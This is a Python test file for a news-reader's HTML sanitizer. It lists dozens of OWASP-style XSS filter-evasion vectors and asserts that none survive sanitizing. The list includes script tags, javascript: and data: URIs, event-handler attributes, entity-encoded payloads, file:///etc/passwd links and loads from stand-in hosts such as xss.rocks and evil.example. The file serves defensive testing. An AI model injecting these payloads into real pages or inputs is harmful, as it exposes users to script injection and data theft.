"""Hostile HTML (OWASP XSS filter-evasion style): nothing executable or auto-loading survives."""

from __future__ import annotations

import html as html_lib
import re

import lxml.html
import pytest

from reader.core.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, REMOTE_SRC_ATTR, sanitize_html
from reader.core.text import html_to_text

VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="file:///etc/passwd">local</a>',
    '<a href="  javascript:alert(1)">leading space</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="file:///etc/passwd">',
    '<img srcset="http://evil.example/a.png 1x">',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<form action="http://evil.example"><input name="q"><button>go</button></form>',
    '<details open ontoggle="alert(1)">x</details>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<p style="position:fixed;top:0">overlay</p>',
    '<a href="https://ok.example/" target="_blank" onclick="alert(1)">ok</a>',
    '<div id="dfp-ad-imu1"><script>googletag.cmd.push(1)</script></div>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<a href="#" onclick="alert(1)" formaction="javascript:alert(2)">x</a>',
    '<a href="mailto:victim@example.com?attach=/etc/passwd">mail</a>',
    '<a href="MAILTO:x@example.com?attach=%2Fhome">mail</a>',
    '<a href="  mailto:x@example.com">mail</a>',
]

_URL_ATTRS = {"href", REMOTE_SRC_ATTR}
# An unclosed <script>, <svg> or <noscript> owns the rest of the document in any HTML parser.
_UNCLOSED_CONTAINER = re.compile(r"^<(script[^>]*\?<|svg/|noscript>)", re.I)


def _allowed_attr(tag: str, attr: str) -> bool:
    return (
        attr in ALLOWED_ATTRIBUTES.get(tag, set())
        or attr in ALLOWED_ATTRIBUTES["*"]
        or (tag == "a" and attr == "rel")
    )


def test_at_least_forty_vectors() -> None:
    assert len(VECTORS) >= 40


@pytest.mark.parametrize("depth", [1, 200], ids=["shallow", "deep"])
@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_neutralized(vector: str, depth: int) -> None:
    """``deep``: the vector sits below MAX_DEPTH levels, where the tree is rebuilt by the
    depth-bounding parser target (the fallback path must be just as strict)."""
    result = sanitize_html(
        "<div>" * depth + f"<p>before</p>{vector}<p>after</p>" + "</div>" * depth,
        "https://news.example/a",
    )
    out = result.html
    lowered = html_lib.unescape(out).lower()
    for needle in (
        "<script", "javascript:", "vbscript:", "data:", "file:", "mailto:", "expression(", "url(",
    ):  # fmt: skip
        assert needle not in re.sub(r"\s+", "", lowered), (needle, out)
    if not _UNCLOSED_CONTAINER.search(vector):
        assert "after" in out, "sanitizing must not swallow the rest of the article"
    root = lxml.html.fragment_fromstring(out or "<div></div>", create_parent="div")
    for el in root.iter():
        if not isinstance(el.tag, str) or el is root:
            continue
        assert el.tag in ALLOWED_TAGS, (el.tag, out)
        for attr, value in el.attrib.items():
            assert _allowed_attr(el.tag, attr), (el.tag, attr, out)
            assert not attr.startswith("on")
            if attr in _URL_ATTRS:
                assert re.match(r"^https?://", value.strip(), re.I), (attr, value)
    # Nothing can auto-load: no element carries a loadable source.
    assert not re.search(r"\s(src|srcset|background|dynsrc|lowsrc|poster|data)\s*=", out, re.I)


@pytest.mark.parametrize("vector", [v for v in VECTORS if re.search(r"<(script|style)>", v, re.I)])
def test_script_and_style_bodies_never_reach_indexed_text(vector: str) -> None:
    inner = re.search(r"<(script|style)>(.*?)</\1>", vector, re.I | re.S)
    assert inner is not None
    for depth in (0, 200):
        text = html_to_text(sanitize_html("<div>" * depth + vector).html)
        assert inner.group(2).strip() not in text


def test_tracking_pixel_is_kept_only_as_opt_in_data() -> None:
    result = sanitize_html('<p>x</p><img src="https://tracker.example/p.gif" width="1" height="1">')
    assert result.remote_images == ("https://tracker.example/p.gif",)
    assert ' src="' not in result.html


def test_relative_links_resolve_against_article_url_and_never_become_local() -> None:
    out = sanitize_html(
        '<a href="/world/x">rel</a> <a href="../y">up</a>', "https://n.example/a/b"
    ).html
    assert 'href="https://n.example/world/x"' in out
    assert 'href="https://n.example/y"' in out
    bare = sanitize_html('<a href="/world/x">rel</a>').html
    assert "href" not in bare
